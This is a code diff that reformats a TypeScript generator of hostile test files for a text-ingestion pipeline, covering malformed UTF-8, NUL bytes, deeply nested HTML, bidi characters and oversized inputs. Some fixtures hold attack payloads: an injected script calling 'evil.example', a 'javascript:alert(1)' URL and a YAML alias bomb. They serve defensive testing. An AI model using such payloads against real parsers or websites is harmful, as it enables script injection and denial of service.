@@ -59,15 +59,27 @@ const makers: Make[] = [
     // An Arabic sentence makes it UTF-8 beyond doubt: ASCII with stray high bytes could be any legacy charset, and is decoded.
     const text = utf8(`${article(r, n)}\n${SENTENCES[2]}\n`);
     const at = r.between(0, text.length - 1);
-    return { name: `bad-utf8-${n}.txt`, bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0xc3, 0x28, 0xff]), text.subarray(at)]), expect: { outcome: 'skipped', reason: /not valid UTF-8/ } };
+    return {
+      name: `bad-utf8-${n}.txt`,
+      bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0xc3, 0x28, 0xff]), text.subarray(at)]),
+      expect: { outcome: 'skipped', reason: /not valid UTF-8/ },
+    };
   },
   (r, n) => {
     const text = utf8(article(r, n));
     const at = r.between(0, text.length - 1);
-    return { name: `nul-${n}.md`, bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0]), text.subarray(at)]), expect: { outcome: 'skipped', reason: /NUL/ } };
+    return {
+      name: `nul-${n}.md`,
+      bytes: Buffer.concat([text.subarray(0, at), Buffer.from([0]), text.subarray(at)]),
+      expect: { outcome: 'skipped', reason: /NUL/ },
+    };
   },
   (_r, n) => ({ name: `empty-${n}.txt`, bytes: Buffer.alloc(0), expect: { outcome: 'skipped', reason: /empty/ } }),
-  (r, n) => ({ name: `blank-${n}.html`, bytes: utf8(' \n\t\r\n'.repeat(r.between(1, 50))), expect: { outcome: 'skipped', reason: /empty/ } }),
+  (r, n) => ({
+    name: `blank-${n}.html`,
+    bytes: utf8(' \n\t\r\n'.repeat(r.between(1, 50))),
+    expect: { outcome: 'skipped', reason: /empty/ },
+  }),
   (r, n) => ({
     name: `controls-${n}.txt`,
     bytes: utf8(Array.from({ length: 400 }, (_, i) => (i % 3 === 0 ? '\u0001' : 'a')).join('') + prose(r)),
@@ -75,7 +87,11 @@ const makers: Make[] = [
   }),
   (r, n) => {
     const depth = r.between(2_000, 60_000);
-    return { name: `nested-${n}.html`, bytes: utf8(`<html><body>${'<div>'.repeat(depth)}<p>${prose(r)}</p>${'</div>'.repeat(r.next() < 0.5 ? depth : 0)}</body></html>`), expect: { outcome: 'skipped', reason: /nested/ } };
+    return {
+      name: `nested-${n}.html`,
+      bytes: utf8(`<html><body>${'<div>'.repeat(depth)}<p>${prose(r)}</p>${'</div>'.repeat(r.next() < 0.5 ? depth : 0)}</body></html>`),
+      expect: { outcome: 'skipped', reason: /nested/ },
+    };
   },
   (r, n) => {
     const script = `<script>document.write("${SCRIPT_MARKER}");fetch("https://evil.example/${SCRIPT_MARKER}")</script>`;
@@ -84,18 +100,43 @@ const makers: Make[] = [
   },
   (r, n) => {
     const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
-    for (let i = 1; i < 9; i++) levels.push(`${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(9).fill(`*${'abcdefghi'[i - 1]}`).join(',')}]`);
-    return { name: `yaml-bomb-${n}.md`, bytes: utf8(`---\n${levels.join('\n')}\ntitle: Bom YAML ${n}\n---\n\n${prose(r)}\n`), expect: { outcome: 'ingested' } };
+    for (let i = 1; i < 9; i++)
+      levels.push(
+        `${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(9)
+          .fill(`*${'abcdefghi'[i - 1]}`)
+          .join(',')}]`,
+      );
+    return {
+      name: `yaml-bomb-${n}.md`,
+      bytes: utf8(`---\n${levels.join('\n')}\ntitle: Bom YAML ${n}\n---\n\n${prose(r)}\n`),
+      expect: { outcome: 'ingested' },
+    };
   },
   (r, n) => ({
     name: `bidi-${n}.txt`,
     bytes: utf8(`Judul \u202Eesrever\u202C nomor ${n}\n\n${prose(r)} \u202Eteks terbalik\u202C \u2066diisolasi\u2069 \u200F${prose(r)}\n`),
     expect: { outcome: 'ingested' },
   }),
-  (r, n) => ({ name: `unsupported-${n}${r.pick(['.pdf', '.docx', '.json', '', '.exe'])}`, bytes: utf8(article(r, n)), expect: { outcome: 'skipped', reason: /unsupported file type/ } }),
-  (r, n) => ({ name: `many-lines-${n}.txt`, bytes: utf8('a\n'.repeat(r.between(50_000, 200_000))), expect: { outcome: 'skipped', reason: /no article text/ } }),
-  (r, n) => ({ name: `broken-html-${n}.html`, bytes: utf8(`<p>${prose(r)}<div><table><tr><td>${prose(r)}</b></i></span><!-- <p>${'&amp;'.repeat(r.between(1, 2000))}`), expect: { outcome: 'either' } }),
-  (r, n) => ({ name: `front-matter-${n}.md`, bytes: utf8(`---\ntitle: [unclosed\nurl: javascript:alert(1)\n---\n\n${prose(r)}\n`), expect: { outcome: 'skipped', reason: /front-matter/ } }),
+  (r, n) => ({
+    name: `unsupported-${n}${r.pick(['.pdf', '.docx', '.json', '', '.exe'])}`,
+    bytes: utf8(article(r, n)),
+    expect: { outcome: 'skipped', reason: /unsupported file type/ },
+  }),
+  (r, n) => ({
+    name: `many-lines-${n}.txt`,
+    bytes: utf8('a\n'.repeat(r.between(50_000, 200_000))),
+    expect: { outcome: 'skipped', reason: /no article text/ },
+  }),
+  (r, n) => ({
+    name: `broken-html-${n}.html`,
+    bytes: utf8(`<p>${prose(r)}<div><table><tr><td>${prose(r)}</b></i></span><!-- <p>${'&amp;'.repeat(r.between(1, 2000))}`),
+    expect: { outcome: 'either' },
+  }),
+  (r, n) => ({
+    name: `front-matter-${n}.md`,
+    bytes: utf8(`---\ntitle: [unclosed\nurl: javascript:alert(1)\n---\n\n${prose(r)}\n`),
+    expect: { outcome: 'skipped', reason: /front-matter/ },
+  }),
   (r, n) => {
     const bytes = utf8(article(r, n));
     const group = `dup-${n}`;
@@ -116,6 +157,10 @@ export function generateHostileSeeds(count: number, seed = 1): HostileSeed[] {
     const made = makers[n % makers.length]!(random, n);
     seeds.push(...(Array.isArray(made) ? made : [made]));
   }
-  seeds.push({ name: 'one-line-50mb.txt', bytes: Buffer.alloc(50 * 1024 * 1024, 'kata '), expect: { outcome: 'skipped', reason: /too large/ } });
+  seeds.push({
+    name: 'one-line-50mb.txt',
+    bytes: Buffer.alloc(50 * 1024 * 1024, 'kata '),
+    expect: { outcome: 'skipped', reason: /too large/ },
+  });
   return seeds;
 }
